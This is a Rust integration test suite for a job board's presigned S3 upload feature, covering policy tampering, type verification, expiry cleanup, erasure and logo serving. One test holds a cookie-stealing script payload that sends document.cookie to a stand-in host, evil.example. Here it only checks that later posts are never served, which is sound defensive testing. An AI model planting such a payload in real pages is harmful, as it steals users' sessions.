//! Uploads against a real S3-compatible server (s3s-fs, which enforces POST policies): the
//! browser's multipart POST of the presigned form, then `:complete`. The store refuses what
//! the policy does not allow; the server rejects what the file is not.

use std::collections::HashMap;
use std::process::Command;

use base64::Engine;
use base64::engine::general_purpose::STANDARD;
use reqwest::Method;
use serde_json::{Value, json};
use uuid::Uuid;

use crate::s3::{ACCESS_KEY, BUCKET, S3, SECRET_KEY, complete, post_form, presign};
use crate::support::{TestApp, assert_problem, count, published_job, submission, test_tool};

async fn app_with(s3: &S3, extra: &[(&str, &str)]) -> TestApp {
    s3.app_with(MAX, extra).await
}

const EMPLOYER: Uuid = Uuid::from_u128(0x0c00_0000_0000_4000_8000_0000_0000_0001);
const OTHER: Uuid = Uuid::from_u128(0x0c00_0000_0000_4000_8000_0000_0000_0002);
const MAX: usize = 4096;

const PDF: &[u8] = b"%PDF-1.7\n1 0 obj << /Type /Catalog >> endobj\ntrailer << >>\n%%EOF\n";
const ZIP: &[u8] = b"PK\x03\x04\x14\x00\x00\x00\x08\x00this is not a pdf";

fn pdf_request(size: usize) -> Value {
    json!({"purpose": "cv", "filename": "cv.pdf", "content_type": "application/pdf", "size_bytes": size})
}

/// Creates an applicant of `employer` whose CV is `upload`.
async fn applicant_with_cv(app: &TestApp, employer: Uuid, upload: &str) -> reqwest::Response {
    app.call(Method::POST, "/v1/applicants")
        .role(employer, "recruiter")
        .fresh_key()
        .json(&json!({
            "name": "Hawwa Manike",
            "email": format!("{}@example.com", Uuid::new_v4()),
            "cv_upload_id": upload
        }))
        .send()
        .await
}

fn key_of(presigned: &Value) -> String {
    presigned["fields"]["key"].as_str().unwrap().to_string()
}

#[tokio::test(flavor = "multi_thread")]
async fn a_pdf_goes_straight_to_the_store_is_verified_and_can_be_attached() {
    let s3 = S3::start().await;
    let app = app_with(&s3, &[]).await;
    let presigned = presign(&app, EMPLOYER, &pdf_request(PDF.len())).await;
    let id = presigned["upload"]["id"].as_str().unwrap().to_string();
    assert_eq!(presigned["method"], "POST");
    assert_eq!(presigned["upload"]["status"], "pending");
    // The key is the server's, not the client's.
    assert_eq!(
        key_of(&presigned),
        format!("employers/{EMPLOYER}/uploads/{id}")
    );
    // Every field is pinned by the policy, which expires within 15 minutes.
    let policy: Value = serde_json::from_slice(
        &STANDARD
            .decode(presigned["fields"]["policy"].as_str().unwrap())
            .unwrap(),
    )
    .unwrap();
    let conditions = policy["conditions"].as_array().unwrap();
    for (name, value) in presigned["fields"].as_object().unwrap() {
        if name == "policy" || name == "x-amz-signature" {
            continue;
        }
        assert!(conditions.contains(&json!({ name: value })), "{name}");
    }
    // Exactly the declared size: the form cannot carry another file of another length.
    assert!(conditions.contains(&json!(["content-length-range", PDF.len(), PDF.len()])));
    assert_eq!(
        presigned["fields"]["x-amz-server-side-encryption"],
        "AES256"
    );
    let expires: chrono::DateTime<chrono::Utc> =
        policy["expiration"].as_str().unwrap().parse().unwrap();
    assert!(expires <= chrono::Utc::now() + chrono::Duration::minutes(15));

    // Completing before uploading: nothing there yet.
    assert_problem(complete(&app, EMPLOYER, &id).await, 409).await;

    let stored = post_form(&presigned, &[], PDF).await;
    assert!(stored.status().is_success(), "{:?}", stored.text().await);
    let response = complete(&app, EMPLOYER, &id).await;
    assert_eq!(response.status(), 200);
    let upload: Value = response.json().await.unwrap();
    assert_eq!(upload["status"], "verified");
    assert!(upload["verified_at"].is_string());
    assert_eq!(upload["sha256"], sha256_hex(PDF));
    // Copied where no form writes; the uploaded object itself is gone.
    assert!(!s3.has(&key_of(&presigned)));
    assert_eq!(s3.copies(EMPLOYER, &id), vec![PDF.to_vec()]);

    // Employer users get a short-lived download URL that serves the file.
    let got = crate::support::get_ok(
        &app,
        &format!("/v1/uploads/{id}"),
        Some(&app.bearer(EMPLOYER, "viewer")),
    )
    .await;
    let url = got["download_url"].as_str().unwrap();
    let body = reqwest::get(url).await.unwrap().bytes().await.unwrap();
    assert_eq!(&body[..], PDF);

    // A verified CV of the employer can be named by an applicant.
    let response = applicant_with_cv(&app, EMPLOYER, &id).await;
    assert_eq!(response.status(), 201, "{:?}", response.text().await);
}

#[tokio::test(flavor = "multi_thread")]
async fn the_store_refuses_what_the_policy_does_not_allow() {
    let s3 = S3::start().await;
    let app = app_with(&s3, &[]).await;
    let presigned = presign(&app, EMPLOYER, &pdf_request(PDF.len())).await;
    let key = key_of(&presigned);

    // Larger than the policy's range.
    let big = [PDF, &vec![b' '; MAX]].concat();
    let r = post_form(&presigned, &[], &big).await;
    assert!(r.status().is_client_error(), "oversize: {}", r.status());
    // Another content type than the pinned one.
    let r = post_form(&presigned, &[("Content-Type", "text/html")], PDF).await;
    assert!(r.status().is_client_error(), "type: {}", r.status());
    // Another key.
    let r = post_form(&presigned, &[("key", "employers/other/uploads/x")], PDF).await;
    assert!(r.status().is_client_error(), "key: {}", r.status());
    // Without the encryption field.
    let r = post_form(
        &presigned,
        &[("x-amz-server-side-encryption", "aws:kms")],
        PDF,
    )
    .await;
    assert!(r.status().is_client_error(), "sse: {}", r.status());
    // A tampered policy (a wider range) under the old signature.
    let mut policy: Value = serde_json::from_slice(
        &STANDARD
            .decode(presigned["fields"]["policy"].as_str().unwrap())
            .unwrap(),
    )
    .unwrap();
    for c in policy["conditions"].as_array_mut().unwrap() {
        if c[0] == "content-length-range" {
            c[2] = json!(100_000_000);
        }
    }
    let tampered = STANDARD.encode(policy.to_string());
    let r = post_form(&presigned, &[("policy", &tampered)], &big).await;
    assert!(
        r.status().is_client_error(),
        "tampered policy: {}",
        r.status()
    );
    // A tampered signature.
    let r = post_form(&presigned, &[("x-amz-signature", &"0".repeat(64))], PDF).await;
    assert!(r.status().is_client_error(), "signature: {}", r.status());
    assert!(!s3.has(&key), "nothing was stored");
    assert!(!s3.has("employers/other/uploads/x"));

    // An expired policy, signed correctly with the server's credentials.
    let now = chrono::Utc::now() - chrono::Duration::hours(2);
    let fields = jobs_server::uploads::policy::presign(
        &jobs_server::uploads::policy::Upload {
            bucket: BUCKET,
            key: &key,
            content_type: "application/pdf",
            min_bytes: 1,
            max_bytes: MAX as u64,
            encryption: &jobs_server::uploads::policy::Encryption::S3Managed,
            region: "us-east-1",
            now,
            expires: now + chrono::Duration::minutes(15),
        },
        &jobs_server::uploads::policy::Credentials {
            access_key_id: ACCESS_KEY.into(),
            secret_access_key: SECRET_KEY.into(),
            session_token: None,
        },
    );
    let expired = json!({"url": presigned["url"], "fields": fields});
    let r = post_form(&expired, &[], PDF).await;
    assert!(r.status().is_client_error(), "expired: {}", r.status());
    assert!(!s3.has(&key));

    // The untouched form still works.
    let r = post_form(&presigned, &[], PDF).await;
    assert!(r.status().is_success(), "{}", r.status());
    assert!(s3.has(&key));

    // Over the server's maximum, or a type the purpose does not allow: refused at presign.
    let response = app
        .call(Method::POST, "/v1/uploads:presign")
        .role(EMPLOYER, "recruiter")
        .fresh_key()
        .json(&pdf_request(MAX + 1))
        .send()
        .await;
    let problem = assert_problem(response, 422).await;
    assert_eq!(problem["errors"][0]["pointer"], "/size_bytes");
}

#[tokio::test(flavor = "multi_thread")]
async fn a_zip_declared_as_pdf_is_rejected_and_deleted() {
    let s3 = S3::start().await;
    let app = app_with(&s3, &[]).await;
    let presigned = presign(&app, EMPLOYER, &pdf_request(ZIP.len())).await;
    let id = presigned["upload"]["id"].as_str().unwrap().to_string();
    let key = key_of(&presigned);
    assert!(post_form(&presigned, &[], ZIP).await.status().is_success());
    assert!(s3.has(&key));
    let response = complete(&app, EMPLOYER, &id).await;
    assert_eq!(response.status(), 200);
    let upload: Value = response.json().await.unwrap();
    assert_eq!(upload["status"], "rejected");
    assert!(
        upload["rejection_reason"]
            .as_str()
            .unwrap()
            .contains("do not match")
    );
    assert!(!s3.has(&key), "the rejected object was deleted");
    // A rejected upload cannot be named.
    let problem = assert_problem(applicant_with_cv(&app, EMPLOYER, &id).await, 422).await;
    assert_eq!(problem["errors"][0]["pointer"], "/cv_upload_id");

    // A size other than the declared one never reaches the store.
    let presigned = presign(&app, EMPLOYER, &pdf_request(PDF.len() + 10)).await;
    let r = post_form(&presigned, &[], PDF).await;
    assert!(r.status().is_client_error(), "smaller: {}", r.status());
    assert!(!s3.has(&key_of(&presigned)));
}

fn sha256_hex(bytes: &[u8]) -> String {
    use sha2::Digest;
    sha2::Sha256::digest(bytes)
        .iter()
        .map(|b| format!("{b:02x}"))
        .collect()
}

/// Moves every upload's form expiry into the past (as if 15 minutes went by).
async fn expire_forms(app: &TestApp) {
    crate::support::execute(
        &app.db.url,
        "UPDATE uploads SET expires_at = now() - interval '1 second'",
    )
    .await;
}

async fn housekeeping(app: &TestApp) {
    jobs_server::maintenance::run_once(&app.state.db, &app.maintenance, &app.state.uploads).await;
}

/// The finding: after `:complete` said `verified`, the same form posted other bytes and the
/// download served them. Now the form cannot carry another length, what it posts later is
/// never what anyone downloads, and it is cleared once the form expires.
#[tokio::test(flavor = "multi_thread")]
async fn a_verified_upload_stays_what_was_verified() {
    let s3 = S3::start().await;
    let app = app_with(&s3, &[]).await;
    let presigned = presign(&app, EMPLOYER, &pdf_request(PDF.len())).await;
    let id = presigned["upload"]["id"].as_str().unwrap().to_string();
    let key = key_of(&presigned);
    assert!(post_form(&presigned, &[], PDF).await.status().is_success());
    let verified: Value = complete(&app, EMPLOYER, &id).await.json().await.unwrap();
    assert_eq!(verified["status"], "verified");

    // A page of HTML and script: refused for its length, ...
    let html = format!(
        "<html><script>document.location='https://evil.example/?c='+document.cookie</script>{}</html>",
        "x".repeat(2000)
    );
    let r = post_form(&presigned, &[], html.as_bytes()).await;
    assert!(r.status().is_client_error(), "{}", r.status());
    // ... and at the declared length the store takes it, but nobody gets it.
    let same_size = format!("<script>alert(1)</script>{}", " ".repeat(PDF.len() - 25));
    assert_eq!(same_size.len(), PDF.len());
    assert!(
        post_form(&presigned, &[], same_size.as_bytes())
            .await
            .status()
            .is_success()
    );
    assert!(s3.has(&key));
    // Completing again answers the settled upload and changes nothing.
    let again: Value = complete(&app, EMPLOYER, &id).await.json().await.unwrap();
    assert_eq!(again, verified);
    let got = crate::support::get_ok(
        &app,
        &format!("/v1/uploads/{id}"),
        Some(&app.bearer(EMPLOYER, "recruiter")),
    )
    .await;
    assert_eq!(got["sha256"], sha256_hex(PDF));
    let served = reqwest::get(got["download_url"].as_str().unwrap())
        .await
        .unwrap()
        .bytes()
        .await
        .unwrap();
    assert_eq!(&served[..], PDF, "the verified bytes, not the later post");

    // Once the form expired, the clean-up clears what it posted; the copy stays.
    housekeeping(&app).await;
    assert!(s3.has(&key), "not before the form expires");
    expire_forms(&app).await;
    housekeeping(&app).await;
    assert!(!s3.has(&key));
    assert_eq!(s3.copies(EMPLOYER, &id), vec![PDF.to_vec()]);
}

/// Rejected objects go at once, and so does whatever their form posts afterwards (once it
/// expired); pending, rejected and public uploads nothing names expire after the unclaimed
/// TTL, while a CV an application names stays.
#[tokio::test(flavor = "multi_thread")]
async fn rejected_pending_and_unclaimed_uploads_expire() {
    let s3 = S3::start().await;
    let app = app_with(&s3, &[("JOBS_UPLOAD_UNCLAIMED_TTL", "1h")]).await;
    let rejected = presign(&app, EMPLOYER, &pdf_request(ZIP.len())).await;
    let rejected_id = rejected["upload"]["id"].as_str().unwrap().to_string();
    assert!(post_form(&rejected, &[], ZIP).await.status().is_success());
    let upload: Value = complete(&app, EMPLOYER, &rejected_id)
        .await
        .json()
        .await
        .unwrap();
    assert_eq!(upload["status"], "rejected");
    assert!(!s3.has(&key_of(&rejected)));
    assert!(post_form(&rejected, &[], ZIP).await.status().is_success());
    assert!(s3.has(&key_of(&rejected)), "re-posted");

    let pending = presign(&app, EMPLOYER, &pdf_request(PDF.len())).await;
    assert!(post_form(&pending, &[], PDF).await.status().is_success());

    // Two anonymous CVs for a job: one used by an application, one never.
    let job = published_job(&app, EMPLOYER, "Chef").await;
    let mut public = Vec::new();
    for _ in 0..2 {
        let response = app
            .call(
                Method::POST,
                &format!("/v1/public/jobs/{job}/uploads:presign"),
            )
            .fresh_key()
            .json(&pdf_request(PDF.len()))
            .send()
            .await;
        let presigned: Value = response.json().await.unwrap();
        assert!(post_form(&presigned, &[], PDF).await.status().is_success());
        let id = presigned["upload"]["id"].as_str().unwrap().to_string();
        let response = app
            .call(Method::POST, &format!("/v1/uploads/{id}:complete"))
            .send()
            .await;
        assert_eq!(response.status(), 200);
        public.push(id);
    }
    // The CV is used to apply to another job of the employer than the one it was uploaded
    // for: it is named all the same.
    let other_job = published_job(&app, EMPLOYER, "Sous Chef").await;
    let mut body = submission("Aisha Ibrahim", "aisha@example.com");
    body["cv_upload_id"] = json!(public[0]);
    crate::support::apply_ok(&app, other_job, &body).await;

    // Within the TTL nothing of it goes, but the rejected form's late post (form expired).
    expire_forms(&app).await;
    housekeeping(&app).await;
    assert!(!s3.has(&key_of(&rejected)));
    assert!(s3.has(&key_of(&pending)));
    assert_eq!(s3.copies(EMPLOYER, &public[1]).len(), 1);

    // Past the TTL.
    crate::support::execute(
        &app.db.url,
        "UPDATE uploads SET created_at = created_at - interval '2 hours', \
                            verified_at = verified_at - interval '2 hours'",
    )
    .await;
    housekeeping(&app).await;
    let deleted = |id: &str| {
        format!("SELECT count(*) AS n FROM uploads WHERE id = '{id}' AND status = 'deleted'")
    };
    assert_eq!(count(&app, &deleted(&rejected_id)).await, 1);
    assert_eq!(
        count(&app, &deleted(pending["upload"]["id"].as_str().unwrap())).await,
        1
    );
    assert!(!s3.has(&key_of(&pending)));
    assert_eq!(count(&app, &deleted(&public[1])).await, 1, "never used");
    assert!(s3.copies(EMPLOYER, &public[1]).is_empty());
    assert_eq!(
        count(&app, &deleted(&public[0])).await,
        0,
        "an application names it"
    );
    assert_eq!(s3.copies(EMPLOYER, &public[0]).len(), 1);

    // Once no record names it — retention's anonymization drops upload ids from submissions,
    // and the applicant record made from the application is edited — the next round deletes
    // it. While one of them still names it, it stays.
    crate::support::execute(
        &app.db.url,
        "UPDATE application_submissions SET submission = submission - 'cv_upload_id'",
    )
    .await;
    housekeeping(&app).await;
    assert_eq!(
        count(&app, &deleted(&public[0])).await,
        0,
        "the applicant's CV"
    );
    crate::support::execute(&app.db.url, "UPDATE applicants SET cv_upload_id = NULL").await;
    housekeeping(&app).await;
    assert_eq!(count(&app, &deleted(&public[0])).await, 1);
    assert!(s3.copies(EMPLOYER, &public[0]).is_empty());
}

#[tokio::test(flavor = "multi_thread")]
async fn uploads_are_the_employers_own() {
    let s3 = S3::start().await;
    let app = app_with(&s3, &[]).await;
    let presigned = presign(&app, EMPLOYER, &pdf_request(PDF.len())).await;
    let id = presigned["upload"]["id"].as_str().unwrap().to_string();
    assert!(post_form(&presigned, &[], PDF).await.status().is_success());
    assert_problem(complete(&app, OTHER, &id).await, 404).await;
    let response = app
        .call(Method::GET, &format!("/v1/uploads/{id}"))
        .role(OTHER, "viewer")
        .send()
        .await;
    assert_problem(response, 404).await;
    assert_eq!(complete(&app, EMPLOYER, &id).await.status(), 200);
    // Another employer cannot name it, nor can anyone name an unknown or pending upload.
    let pending = presign(&app, EMPLOYER, &pdf_request(PDF.len())).await;
    for (employer, upload) in [
        (OTHER, id.clone()),
        (EMPLOYER, Uuid::new_v4().to_string()),
        (
            EMPLOYER,
            pending["upload"]["id"].as_str().unwrap().to_string(),
        ),
    ] {
        let problem = assert_problem(applicant_with_cv(&app, employer, &upload).await, 422).await;
        assert_eq!(problem["errors"][0]["pointer"], "/cv_upload_id");
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn anonymous_applicants_upload_a_cv_and_a_cover_letter_and_apply_with_them() {
    let s3 = S3::start().await;
    let app = app_with(&s3, &[]).await;
    let job = published_job(&app, EMPLOYER, "Chef").await;
    let mut ids = Vec::new();
    for (purpose, content_type, file) in [
        ("cv", "application/pdf", PDF),
        (
            "cover_letter",
            "text/plain",
            "Dear team, I cook.".as_bytes(),
        ),
    ] {
        let response = app
            .call(
                Method::POST,
                &format!("/v1/public/jobs/{job}/uploads:presign"),
            )
            .fresh_key()
            .json(&json!({"purpose": purpose, "filename": "f", "content_type": content_type, "size_bytes": file.len()}))
            .send()
            .await;
        assert_eq!(response.status(), 201, "{:?}", response.text().await);
        let presigned: Value = response.json().await.unwrap();
        assert!(key_of(&presigned).starts_with(&format!("employers/{EMPLOYER}/uploads/")));
        assert!(post_form(&presigned, &[], file).await.status().is_success());
        let id = presigned["upload"]["id"].as_str().unwrap().to_string();
        // No token: an anonymous upload is completed by its id.
        let response = app
            .call(Method::POST, &format!("/v1/uploads/{id}:complete"))
            .send()
            .await;
        assert_eq!(response.status(), 200, "{:?}", response.text().await);
        assert_eq!(
            response.json::<Value>().await.unwrap()["status"],
            "verified"
        );
        ids.push(id);
    }
    // A cover letter is not a CV: purposes must match.
    let mut body = submission("Aisha Ibrahim", "aisha@example.com");
    body["cv_upload_id"] = json!(ids[1]);
    let response = crate::support::apply(&app, job, &body, None).await;
    assert_problem(response, 422).await;
    body["cv_upload_id"] = json!(ids[0]);
    body["cover_letter_upload_id"] = json!(ids[1]);
    let application = crate::support::apply_ok(&app, job, &body).await;
    let got = crate::support::get_ok(
        &app,
        &format!("/v1/applications/{application}"),
        Some(&app.bearer(EMPLOYER, "recruiter")),
    )
    .await;
    assert_eq!(got["submission"]["cv_upload_id"], ids[0]);
    assert_eq!(got["submission"]["cover_letter_upload_id"], ids[1]);

    // An employer user's upload cannot be completed or read anonymously.
    let staff = presign(&app, EMPLOYER, &pdf_request(PDF.len())).await;
    let response = app
        .call(
            Method::POST,
            &format!(
                "/v1/uploads/{}:complete",
                staff["upload"]["id"].as_str().unwrap()
            ),
        )
        .send()
        .await;
    assert_problem(response, 404).await;
    // Drafts take no uploads.
    let (draft, _, _) =
        crate::support::create_job(&app, EMPLOYER, &json!({"title": "Draft"})).await;
    let response = app
        .call(
            Method::POST,
            &format!("/v1/public/jobs/{draft}/uploads:presign"),
        )
        .fresh_key()
        .json(&pdf_request(10))
        .send()
        .await;
    assert_problem(response, 404).await;
}

#[tokio::test(flavor = "multi_thread")]
async fn erasure_deletes_the_persons_files_and_stale_uploads_are_cleaned_up() {
    let s3 = S3::start().await;
    let app = app_with(&s3, &[]).await;
    let presigned = presign(&app, EMPLOYER, &pdf_request(PDF.len())).await;
    let id = presigned["upload"]["id"].as_str().unwrap().to_string();
    let key = key_of(&presigned);
    assert!(post_form(&presigned, &[], PDF).await.status().is_success());
    assert_eq!(complete(&app, EMPLOYER, &id).await.status(), 200);
    let (applicant, _, _) = crate::support::create_applicant(
        &app,
        EMPLOYER,
        &json!({"name": "Erased Person", "email": "erase@example.com", "cv_upload_id": id}),
    )
    .await;
    assert_eq!(s3.copies(EMPLOYER, &id).len(), 1);
    let response = app
        .call(Method::DELETE, &format!("/v1/applicants/{applicant}"))
        .role(EMPLOYER, "recruiter")
        .send()
        .await;
    assert_eq!(response.status(), 204);
    assert!(
        s3.copies(EMPLOYER, &id).is_empty(),
        "the CV went with the person"
    );
    assert!(!s3.has(&key));
    assert_eq!(
        count(
            &app,
            &format!("SELECT count(*) AS n FROM uploads WHERE id = '{id}' AND status = 'deleted'")
        )
        .await,
        1
    );

    // An upload never completed for a day is removed by the maintenance task.
    let stale = presign(&app, EMPLOYER, &pdf_request(PDF.len())).await;
    let stale_key = key_of(&stale);
    assert!(post_form(&stale, &[], PDF).await.status().is_success());
    crate::support::execute(
        &app.db.url,
        "UPDATE uploads SET created_at = now() - interval '2 days' WHERE status = 'pending'",
    )
    .await;
    jobs_server::maintenance::run_once(&app.state.db, &app.maintenance, &app.state.uploads).await;
    assert!(!s3.has(&stale_key));
    assert_eq!(
        count(
            &app,
            "SELECT count(*) AS n FROM uploads WHERE status = 'pending'"
        )
        .await,
        0
    );
}

#[tokio::test(flavor = "multi_thread")]
async fn a_store_that_does_not_report_encryption_fails_verification_by_default() {
    let s3 = S3::start().await;
    let app = app_with(&s3, &[("JOBS_S3_VERIFY_ENCRYPTION", "on")]).await;
    let presigned = presign(&app, EMPLOYER, &pdf_request(PDF.len())).await;
    assert!(post_form(&presigned, &[], PDF).await.status().is_success());
    let upload: Value = complete(&app, EMPLOYER, presigned["upload"]["id"].as_str().unwrap())
        .await
        .json()
        .await
        .unwrap();
    assert_eq!(upload["status"], "rejected");
    assert!(
        upload["rejection_reason"]
            .as_str()
            .unwrap()
            .contains("encryption")
    );
}

#[tokio::test(flavor = "multi_thread")]
async fn without_object_storage_uploads_say_so() {
    let app = TestApp::spawn().await;
    let response = app
        .call(Method::POST, "/v1/uploads:presign")
        .role(EMPLOYER, "recruiter")
        .fresh_key()
        .json(&pdf_request(10))
        .send()
        .await;
    let problem = assert_problem(response, 503).await;
    assert!(
        problem["detail"]
            .as_str()
            .unwrap()
            .contains("JOBS_S3_BUCKET")
    );
}

/// botocore's `generate_presigned_post` for a policy: our signer gives its signature.
#[test]
fn the_policy_signature_matches_botocore() {
    let python = test_tool("JOBS_TEST_PYTHON", "test-venv/bin/python");
    let script = r#"
import json
import botocore.config, botocore.session
s = botocore.session.get_session()
c = s.create_client("s3", region_name="eu-west-1", aws_access_key_id="AKIDEXAMPLE",
                    aws_secret_access_key="wJalrXUtnFEMI/K7MDENG+bPxRfiCYEXAMPLEKEY",
                    config=botocore.config.Config(signature_version="s3v4"))
post = c.generate_presigned_post(
    "cvs", "employers/e/uploads/u",
    Fields={"Content-Type": "application/pdf", "x-amz-server-side-encryption": "AES256"},
    Conditions=[{"Content-Type": "application/pdf"}, {"x-amz-server-side-encryption": "AES256"},
                ["content-length-range", 1, 10485760]],
    ExpiresIn=900)
print(json.dumps(post["fields"]))
"#;
    let output = Command::new(python).args(["-c", script]).output().unwrap();
    assert!(
        output.status.success(),
        "{}",
        String::from_utf8_lossy(&output.stderr)
    );
    let fields: HashMap<String, String> = serde_json::from_slice(&output.stdout).unwrap();
    let date = &fields["x-amz-date"][..8];
    assert_eq!(
        fields["x-amz-credential"],
        format!("AKIDEXAMPLE/{date}/eu-west-1/s3/aws4_request")
    );
    assert_eq!(
        jobs_server::uploads::policy::sign(
            "wJalrXUtnFEMI/K7MDENG+bPxRfiCYEXAMPLEKEY",
            date,
            "eu-west-1",
            &fields["policy"]
        ),
        fields["x-amz-signature"]
    );
}

/// The smallest PNG: its signature and an IHDR chunk are what `:complete` checks.
const PNG: &[u8] =
    b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR\0\0\0\x01\0\0\0\x01\x08\x06\0\0\0\x1f\x15\xc4\x89";

#[tokio::test(flavor = "multi_thread")]
async fn a_logo_is_a_verified_image_the_careers_page_serves_itself() {
    let s3 = S3::start().await;
    // Above the logo's own bound, so that bound is what refuses.
    let app = app_with(&s3, &[("JOBS_UPLOAD_MAX_BYTES", "4194304")]).await;
    let logo = |content_type: &str, size: usize| json!({"purpose": "logo", "filename": "logo.png", "content_type": content_type, "size_bytes": size});
    // Raster images only, at most 1 MiB; applicants never upload a logo.
    for (body, pointer) in [
        (logo("application/pdf", 100), "/content_type"),
        (logo("image/png", 2 << 20), "/size_bytes"),
    ] {
        let response = app
            .call(Method::POST, "/v1/uploads:presign")
            .role(EMPLOYER, "recruiter")
            .fresh_key()
            .json(&body)
            .send()
            .await;
        let problem = assert_problem(response, 422).await;
        assert_eq!(problem["errors"][0]["pointer"], pointer, "{problem}");
    }
    let job = published_job(&app, EMPLOYER, "Logo Designer").await;
    let response = app
        .call(
            Method::POST,
            &format!("/v1/public/jobs/{job}/uploads:presign"),
        )
        .fresh_key()
        .json(&logo("image/png", PNG.len()))
        .send()
        .await;
    // The contract's public request has no `logo` purpose (nor image types).
    let problem = assert_problem(response, 422).await;
    let pointers: Vec<&str> = problem["errors"]
        .as_array()
        .unwrap()
        .iter()
        .filter_map(|e| e["pointer"].as_str())
        .collect();
    assert!(pointers.contains(&"/purpose"), "{problem}");

    // A PDF declared as a PNG is rejected at `:complete`.
    let fake = presign(&app, EMPLOYER, &logo("image/png", PDF.len())).await;
    assert_eq!(post_form(&fake, &[], PDF).await.status(), 204);
    let fake_id = fake["upload"]["id"].as_str().unwrap().to_string();
    let settled: Value = complete(&app, EMPLOYER, &fake_id)
        .await
        .json()
        .await
        .unwrap();
    assert_eq!(settled["status"], "rejected", "{settled}");

    let presigned = presign(&app, EMPLOYER, &logo("image/png", PNG.len())).await;
    assert_eq!(post_form(&presigned, &[], PNG).await.status(), 204);
    let id = presigned["upload"]["id"].as_str().unwrap().to_string();
    assert_eq!(complete(&app, EMPLOYER, &id).await.status(), 200);

    // A CV is no logo; the verified image is.
    let cv = presign(&app, EMPLOYER, &pdf_request(PDF.len())).await;
    assert_eq!(post_form(&cv, &[], PDF).await.status(), 204);
    let cv_id = cv["upload"]["id"].as_str().unwrap().to_string();
    assert_eq!(complete(&app, EMPLOYER, &cv_id).await.status(), 200);
    let auth = app.bearer(EMPLOYER, "employer_admin");
    let patch = |change: Value| {
        let auth = auth.clone();
        let app = &app;
        async move {
            app.call(Method::PATCH, "/v1/employer")
                .auth(Some(&auth))
                .if_match(Some("*"))
                .json(&change)
                .send()
                .await
        }
    };
    let response = patch(json!({"logo_upload_id": cv_id})).await;
    let problem = assert_problem(response, 422).await;
    assert_eq!(problem["errors"][0]["pointer"], "/logo_upload_id");
    let response = patch(json!({"logo_upload_id": id, "slug": "logo-test"})).await;
    assert_eq!(response.status(), 200, "{:?}", response.text().await);

    let profile: Value = app
        .get("/v1/public/employers/logo-test")
        .await
        .json()
        .await
        .unwrap();
    assert!(
        profile["logo_url"]
            .as_str()
            .unwrap()
            .ends_with("/careers/logo-test/logo")
    );
    let response = app.get("/careers/logo-test/logo").await;
    assert_eq!(response.status(), 200);
    assert_eq!(response.headers()["content-type"], "image/png");
    assert_eq!(response.headers()["x-content-type-options"], "nosniff");
    let etag = response.headers()["etag"].to_str().unwrap().to_string();
    assert_eq!(response.bytes().await.unwrap().as_ref(), PNG);
    let again = app
        .client
        .get(app.url("/careers/logo-test/logo"))
        .header("if-none-match", &etag)
        .send()
        .await
        .unwrap();
    assert_eq!(again.status(), 304);
    // Public jobs show it too (the change reached the public changes feed, so no cached
    // answer keeps the old one).
    let public: Value = app
        .get(&format!("/v1/public/jobs/{job}"))
        .await
        .json()
        .await
        .unwrap();
    assert!(
        public["employer"]["logo_url"]
            .as_str()
            .unwrap()
            .ends_with("/careers/logo-test/logo"),
        "{public}"
    );
    // The careers page shows it from this origin.
    let page = app.get("/careers/logo-test").await.text().await.unwrap();
    assert!(
        page.contains("<img src=\"/careers/logo-test/logo\""),
        "{page}"
    );

    // Removed: no logo anywhere.
    let response = patch(json!({"logo_upload_id": null})).await;
    assert_eq!(response.status(), 200);
    assert_eq!(app.get("/careers/logo-test/logo").await.status(), 404);
    let public: Value = app
        .get(&format!("/v1/public/jobs/{job}"))
        .await
        .json()
        .await
        .unwrap();
    assert_eq!(public["employer"]["logo_url"], Value::Null, "{public}");
}
